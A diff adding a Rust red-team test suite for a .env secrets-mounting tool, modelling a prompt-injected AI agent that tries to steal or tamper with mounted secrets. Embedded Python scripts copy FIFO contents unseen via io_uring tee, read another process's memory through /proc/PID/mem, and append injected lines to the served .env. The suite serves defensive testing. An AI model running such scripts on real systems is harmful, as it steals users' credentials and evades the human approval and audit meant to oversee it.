@@ -1,0 +1,554 @@
+//! Red team s9c (`.env` mounts, after the text went in pieces and the served FIFO got a
+//! watch): a prompt-injected agent with the human's uid, a shell and `/proc`, trying to read
+//! more than one piece of a mount's values, or to read unreported, while the human approves
+//! an honest reader's card. A held attack is a passing test; one that still works is kept
+//! `#[ignore = "LEAK: ..."]` (it fails today).
+
+use std::process::{Command, Stdio};
+use std::time::Duration;
+
+use crate::harness::{Home, contains, text, wait_output};
+use crate::mount::{Project, approve_card, finished, mount, store, values, wait_card};
+
+/// The agent's side: a copier that never consumes. It finds the honest reader holding the
+/// mount read-only (pid and descriptor `N`), opens `/proc/READER/fd/N` before the approval
+/// (before the swap: the watch does not exist yet), registers that descriptor in an io_uring
+/// instance (`IORING_REGISTER_FILES`) and closes it, so `/proc/*/fd` shows no second holder.
+/// Then it copies whatever is in the pipe with `IORING_OP_TEE` (`tee(2)`: duplicates the
+/// pipe's buffers into the agent's own pipe and leaves them in place for the reader), one
+/// blocking tee waiting beside the reader's `read`, woken by the broker's write like the
+/// reader. The reader still reads every byte (its `rchar` grows by every piece), the pipe
+/// empties as it should, and the FIFO sees no opening, no mode change and no write: only an
+/// `IN_ACCESS`, which the watch does not count. A copy of a piece the reader has not read yet
+/// is told apart from the next one by a non-blocking tee that finds the pipe empty.
+///
+/// With `spin`, two plain busy loops per CPU at normal priority (nothing the broker refuses
+/// a reader for) make the woken reader wait for a CPU, as in `redteam22b.rs`.
+///
+/// Touches `argv[3]` once in position (the test approves only then). Prints what it copied
+/// on stdout (the test only searches it, never shows it).
+const TEE_THIEF: &str = r#"
+import os, sys, time, ctypes, mmap, struct, signal, errno
+path, mode, ready = sys.argv[1:4]
+spinners = []
+st = os.stat(path); dev, ino = st.st_dev, st.st_ino
+me = os.getpid(); pid = fdn = None; t0 = time.time()
+while "byname" not in mode and pid is None and time.time() - t0 < 20:
+    for p in os.listdir("/proc"):
+        if not p.isdigit() or int(p) == me:
+            continue
+        try:
+            for f in os.listdir(f"/proc/{p}/fd"):
+                try:
+                    s = os.stat(f"/proc/{p}/fd/{f}")
+                    if s.st_dev == dev and s.st_ino == ino:
+                        fl = [l for l in open(f"/proc/{p}/fdinfo/{f}") if l.startswith("flags:")][0]
+                        if int(fl.split()[1], 8) & 3 == 0:
+                            pid, fdn = int(p), f
+                except OSError:
+                    pass
+        except OSError:
+            pass
+    time.sleep(0.01)
+if "byname" in mode:
+    src = path  # before any reader: the FIFO's own name, then only the ring holds it
+else:
+    assert pid is not None, "no reader"
+    time.sleep(0.3)
+    src = f"/proc/{pid}/fd/{fdn}"
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+params = ctypes.create_string_buffer(120)
+ring = libc.syscall(425, 8, params)
+assert ring >= 0, ctypes.get_errno()
+sq_entries, cq_entries = struct.unpack_from("II", params.raw, 0)
+sq_off = struct.unpack_from("IIIIIIIIQ", params.raw, 40)
+cq_off = struct.unpack_from("IIIIIIIIQ", params.raw, 80)
+sqr = mmap.mmap(ring, sq_off[6] + sq_entries * 4, offset=0)
+cqr = mmap.mmap(ring, cq_off[5] + cq_entries * 16, offset=0x8000000)
+sqes = mmap.mmap(ring, sq_entries * 64, offset=0x10000000)
+fd = os.open(src, os.O_RDONLY | os.O_NONBLOCK)
+arr = (ctypes.c_int * 1)(fd)
+assert libc.syscall(427, ring, 2, arr, 1) == 0, ctypes.get_errno()
+os.close(fd)  # only the ring holds the FIFO now
+SLOTS = 32 if "many" in mode else 8
+pipes = [os.pipe() for _ in range(SLOTS)]
+IN_FIXED = 1 << 31
+def submit(slot):
+    tail = struct.unpack_from("I", sqr, sq_off[1])[0]
+    mask = struct.unpack_from("I", sqr, sq_off[2])[0]
+    i = tail & mask
+    sqe = bytearray(64)
+    # IORING_OP_TEE (33): fd = the agent's own pipe, splice_fd_in = fixed file 0, blocking.
+    struct.pack_into("BBHiQQIIQ", sqe, 0, 33, 0, 0, pipes[slot][1], 0, 0, 1 << 16, IN_FIXED, slot)
+    struct.pack_into("i", sqe, 44, 0)
+    sqes[i * 64:(i + 1) * 64] = bytes(sqe)
+    struct.pack_into("I", sqr, sq_off[6] + i * 4, i)
+    struct.pack_into("I", sqr, sq_off[1], tail + 1)
+    libc.syscall(426, ring, 1, 0, 0, None, 0)
+def complete():
+    while struct.unpack_from("I", cqr, cq_off[1])[0] == struct.unpack_from("I", cqr, cq_off[0])[0]:
+        libc.syscall(426, ring, 0, 1, 1, None, 0)
+    head = struct.unpack_from("I", cqr, cq_off[0])[0]
+    cmask = struct.unpack_from("I", cqr, cq_off[2])[0]
+    slot, res, _ = struct.unpack_from("QiI", cqr, cq_off[5] + (head & cmask) * 16)
+    struct.pack_into("I", cqr, cq_off[0], head + 1)
+    return slot, res
+if "spin" in mode:
+    for _ in range(2 * len(os.sched_getaffinity(0))):
+        c = os.fork()
+        if c == 0:
+            ctypes.CDLL(None).prctl(1, signal.SIGKILL)  # PR_SET_PDEATHSIG: gone with the thief
+            while True:
+                pass
+        spinners.append(c)
+open(ready, "w").close()
+# SLOTS blocking tees wait beside the reader's read: each write wakes them all with it.
+for s in range(SLOTS):
+    submit(s)
+data = b""; copies = 0; last = None
+t0 = time.time()
+while time.time() - t0 < 40:
+    slot, res = complete()
+    if res > 0:
+        got = b""
+        while len(got) < res:
+            got += os.read(pipes[slot][0], res - len(got))
+        if got != last:  # the same piece seen by several tees
+            data += got; copies += 1; last = got
+    elif res == 0 and data:
+        break  # end of the text: the broker closed its end
+    elif pid is not None and not os.path.exists(f"/proc/{pid}"):
+        break
+    elif res == 0:
+        time.sleep(0.001)
+    submit(slot)
+for c in spinners:
+    os.kill(c, signal.SIGKILL)
+    os.waitpid(c, 0)
+sys.stderr.write(f"copies {copies}\n")
+sys.stdout.buffer.write(data)
+"#;
+
+/// An honest program that loads `.env` and prints only how many bytes it read.
+const HONEST: &str = "import sys\nsys.stdout.write(str(len(open('.env').read())))\n";
+
+/// What a copy attempt came to.
+struct Copy {
+    /// Longest run of consecutive bytes of one value found in what the thief copied.
+    longest: usize,
+    /// How many bytes the thief copied at all.
+    bytes: usize,
+    /// What the honest reader printed (how many bytes it read).
+    honest: String,
+    /// The audit log.
+    audit: String,
+    /// `keyveil mounts`: what the human is told.
+    mounts: String,
+}
+
+/// Longest run of `value`'s bytes (at least 1) that `hay` holds.
+fn longest_run(hay: &[u8], value: &[u8]) -> usize {
+    let mut best = 0;
+    for start in 0..value.len() {
+        let mut len = best + 1;
+        while start + len <= value.len()
+            && hay.windows(len).any(|w| w == &value[start..start + len])
+        {
+            best = len;
+            len += 1;
+        }
+    }
+    best
+}
+
+/// Starts the tee thief of `round` in `mode` on the project's mount (it touches its ready
+/// file once in position: [`wait_ready`]).
+fn start_thief(p: &Project, mode: &str, round: usize) -> std::process::Child {
+    let ready = p.tmp.path().join(format!("thief-ready-{round}"));
+    Command::new("python3")
+        .args([
+            "-c",
+            TEE_THIEF,
+            p.env_file().to_str().unwrap(),
+            mode,
+            ready.to_str().unwrap(),
+        ])
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap()
+}
+
+/// Waits for the thief's `ready` file of `round`.
+fn wait_ready(p: &Project, round: usize) {
+    let ready = p.tmp.path().join(format!("thief-ready-{round}"));
+    let t0 = std::time::Instant::now();
+    while !ready.exists() {
+        assert!(
+            t0.elapsed() < Duration::from_secs(30),
+            "the thief never got ready"
+        );
+        std::thread::sleep(Duration::from_millis(10));
+    }
+}
+
+/// Runs the tee thief in `mode` against the honest reader `reads` times: the first read's
+/// card is approved (with `--ttl 10m` when `reads > 1`: a standing grant serves the others
+/// with no card) once the thief is in position.
+fn copy_reads(mode: &str, reads: usize) -> Copy {
+    let h = Home::new();
+    let vals = values();
+    store(&h, &vals);
+    let p = Project::new();
+    mount(&h, &p);
+    let mut stolen_all = Vec::new();
+    let mut honest_all = Vec::new();
+    for round in 0..reads {
+        let thief = start_thief(&p, mode, round);
+        if mode.contains("byname") {
+            // The thief holds the FIFO before the reader opens it.
+            wait_ready(&p, round);
+        } else {
+            std::thread::sleep(Duration::from_millis(300));
+        }
+        let reader = p.reader(&["python3", "-c", HONEST], &[]);
+        if round == 0 {
+            let card = wait_card(&h);
+            assert!(card.to_string().contains("python3"));
+            wait_ready(&p, round);
+            let ttl: &[&str] = if reads > 1 { &["--ttl", "10m"] } else { &[] };
+            approve_card(&h, &card, ttl);
+        }
+        let honest = finished(reader);
+        let stolen = wait_output(thief, Duration::from_secs(60));
+        assert!(
+            stolen.status.success(),
+            "thief failed: {}",
+            text(&stolen.stderr)
+        );
+        stolen_all.push(stolen.stdout);
+        honest_all.push(text(&honest.stdout));
+    }
+    let longest = vals
+        .iter()
+        .map(|(_, v)| {
+            stolen_all
+                .iter()
+                .map(|s| longest_run(s, v.as_bytes()))
+                .max()
+                .unwrap_or(0)
+        })
+        .max()
+        .unwrap_or(0);
+    Copy {
+        longest,
+        bytes: stolen_all.iter().map(Vec::len).sum(),
+        honest: honest_all.join(","),
+        audit: h.audit_text(),
+        mounts: h.ok(&["mounts"]),
+    }
+}
+
+/// One read (see [`copy_reads`]).
+fn copy(mode: &str) -> Copy {
+    copy_reads(mode, 1)
+}
+
+/// What the pieces claim: whatever the thief does, it holds at most one piece of a value
+/// (4 bytes), and a thief that got anything was reported.
+fn assert_held(c: &Copy) {
+    let suspect = c.audit.contains("\"mount_read_suspect\"");
+    assert!(
+        c.bytes == 0 || suspect,
+        "the thief copied {} bytes unreported (longest run of one value: {} bytes; the honest reader read {}); mounts: {}",
+        c.bytes,
+        c.longest,
+        c.honest,
+        c.mounts
+    );
+    assert!(
+        c.longest <= 4,
+        "the thief copied {} consecutive bytes of a value ({} bytes in all)",
+        c.longest,
+        c.bytes
+    );
+}
+
+/// `tee(2)` through an io_uring registered file: the agent copies the pipe's contents
+/// without consuming them, so the reader reads everything, its `rchar` adds up, the pipe
+/// empties, and the watch sees nothing but reads (`IN_ACCESS`, not counted). Every piece the
+/// tee sees before the reader drains it is the agent's, unreported: the audit says
+/// `mount_read`. LEAK today.
+#[test]
+#[ignore = "LEAK: tee(2) (IORING_OP_TEE on a ring-held FIFO) copies pieces without consuming them, unseen (IN_ACCESS events merge, cannot be counted). Recommended: serve only where the user cannot use io_uring (kernel.io_uring_disabled) and every same-uid /proc/PID/fd is readable, and count each FIFO's openings by pid from its creation (fanotify); see docs/mounts.md limits"]
+fn a_tee_thief_copies_the_pieces_unreported() {
+    assert_held(&copy("tee"));
+}
+
+/// As above, with the woken reader slowed by the agent's normal-priority busy loops.
+/// Measured less reliable than without them (the tees wait for a CPU too): some runs copy
+/// nothing, so this one may pass today; the one above and the grant one fail every run.
+#[test]
+#[ignore = "LEAK: as a_tee_thief_copies_the_pieces_unreported, under CPU load"]
+fn a_tee_thief_with_spinners_copies_the_pieces_unreported() {
+    assert_held(&copy("tee+spin+many"));
+}
+
+/// A standing grant (`--ttl`): the thief opens the mount by name before each read (held
+/// through its ring only, so the broker still sees one reader) and copies with tee while the
+/// grant serves the same honest command again and again, no card, no factor. Nothing is
+/// reported, so the grant is never ended: every read adds pieces. LEAK today.
+#[test]
+#[ignore = "LEAK: as a_tee_thief_copies_the_pieces_unreported; a TTL grant is never ended because nothing is seen, so each read adds pieces"]
+fn a_tee_thief_collects_over_a_standing_grant_unreported() {
+    assert_held(&copy_reads("tee+byname+spin+many", 4));
+}
+
+/// The agent's side, after the read: finds the process that held the mount read-only, waits
+/// until it no longer holds it (it has read the text), then reads its memory through
+/// `/proc/READER/mem` (what the same uid may do to a dumpable process it may ptrace: any
+/// without Yama, its own descendants with Yama's default) and prints what follows `PLAIN=`
+/// in it (the test only searches it, never shows it).
+const MEM_THIEF: &str = r#"
+import os, sys, time, re
+path = sys.argv[1]
+st = os.stat(path); dev, ino = st.st_dev, st.st_ino
+me = os.getpid(); pid = None; t0 = time.time()
+while pid is None and time.time() - t0 < 20:
+    for p in os.listdir("/proc"):
+        if not p.isdigit() or int(p) == me:
+            continue
+        try:
+            for f in os.listdir(f"/proc/{p}/fd"):
+                try:
+                    s = os.stat(f"/proc/{p}/fd/{f}")
+                    if s.st_dev == dev and s.st_ino == ino:
+                        pid = int(p)
+                except OSError:
+                    pass
+        except OSError:
+            pass
+    time.sleep(0.01)
+assert pid is not None, "no reader"
+def holds():
+    try:
+        return any(os.stat(f"/proc/{pid}/fd/{f}").st_ino == ino for f in os.listdir(f"/proc/{pid}/fd"))
+    except OSError:
+        return False
+while holds():
+    time.sleep(0.01)
+out = b""
+with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
+    for l in maps:
+        a, perms = l.split()[:2]
+        if "r" not in perms or "w" not in perms:
+            continue
+        lo, hi = (int(x, 16) for x in a.split("-"))
+        try:
+            mem.seek(lo)
+            b = mem.read(hi - lo)
+        except (OSError, ValueError, OverflowError):
+            continue
+        for m in re.finditer(rb"PLAIN=", b):
+            out += b[m.start():m.start() + 400]
+sys.stdout.buffer.write(out)
+"#;
+
+/// A server-like reader: loads `.env` and keeps running with it in memory.
+const SERVER: &str = "import sys, time\nt = open('.env').read()\nsys.stdout.write(str(len(t)))\nsys.stdout.flush()\ntime.sleep(3)\n";
+
+/// Once the approved reader has read the text, the values are in its memory, and the agent
+/// (same uid, typically the reader's ancestor: it started `docker compose up`) reads them
+/// there through `/proc/READER/mem`, without touching the FIFO: no piece, no watch, nothing
+/// to report. A limit of every reader keyveil does not start (as `/proc/PID/environ` is for a
+/// run's child), not of the pipe. LEAK until documented or closed.
+#[test]
+#[ignore = "LEAK: the reader's memory holds every value once read; a same-uid agent that may ptrace it (no Yama, or its own descendant) reads them from /proc/READER/mem. Recommended: state it in docs/mounts.md limits and the threat model; readers started outside the agent tree with Yama ptrace_scope >= 1"]
+fn the_agent_reads_the_values_from_the_readers_memory() {
+    let h = Home::new();
+    let vals = values();
+    store(&h, &vals);
+    let p = Project::new();
+    mount(&h, &p);
+    let thief = Command::new("python3")
+        .args(["-c", MEM_THIEF, p.env_file().to_str().unwrap()])
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let reader = p.reader(&["python3", "-c", SERVER], &[]);
+    let card = wait_card(&h);
+    approve_card(&h, &card, &[]);
+    let stolen = wait_output(thief, Duration::from_secs(60));
+    let honest = finished(reader);
+    assert!(
+        stolen.status.success(),
+        "thief failed: {}",
+        text(&stolen.stderr)
+    );
+    assert_ne!(text(&honest.stdout), "0", "the reader was served");
+    let leaked = vals
+        .iter()
+        .filter(|(_, v)| {
+            let t = v.rsplit(' ').find(|w| w.len() >= 16).unwrap_or(v);
+            contains(&stolen.stdout, t.trim())
+        })
+        .count();
+    assert_eq!(
+        leaked, 0,
+        "the agent read {leaked} values from the reader's memory"
+    );
+}
+
+/// The agent's side of an injection: once the honest reader holds the mount (its card is
+/// shown), opens `/proc/READER/fd/N` **for writing** (the FIFO is still 0600: the swap and
+/// the watch come only with the approval), registers it in an io_uring instance and closes
+/// it, so `/proc/*/fd` shows only the reader. The broker serves the text; the agent waits
+/// until the FIFO's modification time (`stat(/proc/READER/fd/N)`, no descriptor) has been
+/// still for 300 ms (the text is done), then appends a line through the ring and exits: the
+/// reader, which gets end-of-file only when every writer is gone, reads that line as part
+/// of `.env`.
+const INJECTOR: &str = r#"
+import os, sys, time, ctypes, mmap, struct
+path, ready = sys.argv[1:3]
+st = os.stat(path); dev, ino = st.st_dev, st.st_ino
+me = os.getpid(); pid = fdn = None; t0 = time.time()
+while pid is None and time.time() - t0 < 20:
+    for p in os.listdir("/proc"):
+        if not p.isdigit() or int(p) == me:
+            continue
+        try:
+            for f in os.listdir(f"/proc/{p}/fd"):
+                try:
+                    s = os.stat(f"/proc/{p}/fd/{f}")
+                    if s.st_dev == dev and s.st_ino == ino:
+                        pid, fdn = int(p), f
+                except OSError:
+                    pass
+        except OSError:
+            pass
+    time.sleep(0.01)
+assert pid is not None, "no reader"
+time.sleep(0.3)
+src = f"/proc/{pid}/fd/{fdn}"
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+params = ctypes.create_string_buffer(120)
+ring = libc.syscall(425, 4, params)
+assert ring >= 0, ctypes.get_errno()
+sq_entries, cq_entries = struct.unpack_from("II", params.raw, 0)
+sq_off = struct.unpack_from("IIIIIIIIQ", params.raw, 40)
+cq_off = struct.unpack_from("IIIIIIIIQ", params.raw, 80)
+sqr = mmap.mmap(ring, sq_off[6] + sq_entries * 4, offset=0)
+cqr = mmap.mmap(ring, cq_off[5] + cq_entries * 16, offset=0x8000000)
+sqes = mmap.mmap(ring, sq_entries * 64, offset=0x10000000)
+fd = os.open(src, os.O_WRONLY | os.O_NONBLOCK)
+arr = (ctypes.c_int * 1)(fd)
+assert libc.syscall(427, ring, 2, arr, 1) == 0, ctypes.get_errno()
+os.close(fd)  # only the ring holds the write end now
+open(ready, "w").close()
+m0 = os.stat(src).st_mtime_ns; moved = None; t0 = time.time()
+while time.time() - t0 < 30:
+    try:
+        m = os.stat(src).st_mtime_ns
+    except OSError:
+        sys.exit(0)  # the reader is gone
+    if m != m0:
+        m0, moved = m, time.time()
+    elif moved and time.time() - moved > 0.3:
+        break
+    time.sleep(0.005)
+line = ctypes.create_string_buffer(b"\nINJECTED_BY_AGENT=1\n")
+tail = struct.unpack_from("I", sqr, sq_off[1])[0]
+mask = struct.unpack_from("I", sqr, sq_off[2])[0]
+i = tail & mask
+sqe = bytearray(64)
+# IORING_OP_WRITE (23) on fixed file 0 (IOSQE_FIXED_FILE).
+struct.pack_into("BBHiQQII", sqe, 0, 23, 1, 0, 0, 0, ctypes.addressof(line), len(line.raw) - 1, 0)
+sqes[i * 64:(i + 1) * 64] = bytes(sqe)
+struct.pack_into("I", sqr, sq_off[6] + i * 4, i)
+struct.pack_into("I", sqr, sq_off[1], tail + 1)
+libc.syscall(426, ring, 1, 1, 1, None, 0)
+head = struct.unpack_from("I", cqr, cq_off[0])[0]
+cmask = struct.unpack_from("I", cqr, cq_off[2])[0]
+_, res, _ = struct.unpack_from("QiI", cqr, cq_off[5] + (head & cmask) * 16)
+sys.stdout.write(f"wrote {res}\n")
+"#;
+
+/// A reader that loads `.env` and prints how many lines of it the agent wrote.
+const COUNTS_INJECTED: &str =
+    "import sys\nt = open('.env').read()\nsys.stdout.write(str(t.count('INJECTED_BY_AGENT=')))\n";
+
+/// The agent appends its own lines to the text the approved reader loads: a write end held
+/// only through an io_uring ring (opened before the approval, when the FIFO was still
+/// writable and unwatched) keeps the reader from end-of-file after the broker is done, and
+/// what it writes then is read as `.env`. A loader takes the last (python-dotenv, `sh`) or
+/// the first value of a name: the agent can add variables or override one the human's
+/// values go with (an API base URL next to its key), so the approved program sends a value
+/// where the agent likes. Was unreported (the watch counted writes only while the pieces
+/// went; the audit said `mount_read`). Held since: after the text the broker closes its write
+/// end through a read end of its own, whose non-blocking read says whether a writer remains,
+/// and keeps the watch until the reader closes; a remaining writer, or a write or mode change
+/// then, is audited `mount_read_suspect` (`after_text`), the grant ends and `keyveil mounts`
+/// says the reader may have loaded lines keyveil did not write. Detected, not prevented: the
+/// reader still reads what the agent writes.
+#[test]
+fn an_agent_cannot_append_lines_to_a_served_read_unreported() {
+    let h = Home::new();
+    let vals = values();
+    store(&h, &vals);
+    let p = Project::new();
+    mount(&h, &p);
+    let ready = p.tmp.path().join("injector-ready");
+    let injector = Command::new("python3")
+        .args([
+            "-c",
+            INJECTOR,
+            p.env_file().to_str().unwrap(),
+            ready.to_str().unwrap(),
+        ])
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let reader = p.reader(&["python3", "-c", COUNTS_INJECTED], &[]);
+    let card = wait_card(&h);
+    let t0 = std::time::Instant::now();
+    while !ready.exists() {
+        assert!(
+            t0.elapsed() < Duration::from_secs(30),
+            "the injector never got ready"
+        );
+        std::thread::sleep(Duration::from_millis(10));
+    }
+    approve_card(&h, &card, &[]);
+    let injected = wait_output(injector, Duration::from_secs(60));
+    let honest = finished(reader);
+    assert!(
+        injected.status.success(),
+        "injector failed: {}",
+        text(&injected.stderr)
+    );
+    let audit = h.audit_text();
+    let mounts = h.ok(&["mounts"]);
+    let reported = audit.contains("\"mount_read_suspect\"");
+    assert!(
+        text(&honest.stdout) == "0" || reported,
+        "the reader loaded {} line(s) the agent wrote, unreported ({}); mounts: {mounts}",
+        text(&honest.stdout),
+        text(&injected.stdout).trim()
+    );
+    if reported {
+        // Seen after the text: the grant ended, the human told.
+        assert!(audit.contains("\"after_text\":true"), "{audit}");
+        assert!(
+            audit.contains("may have been written into by another process"),
+            "{audit}"
+        );
+        assert!(mounts.contains("possible tampering"), "{mounts}");
+    }
+}
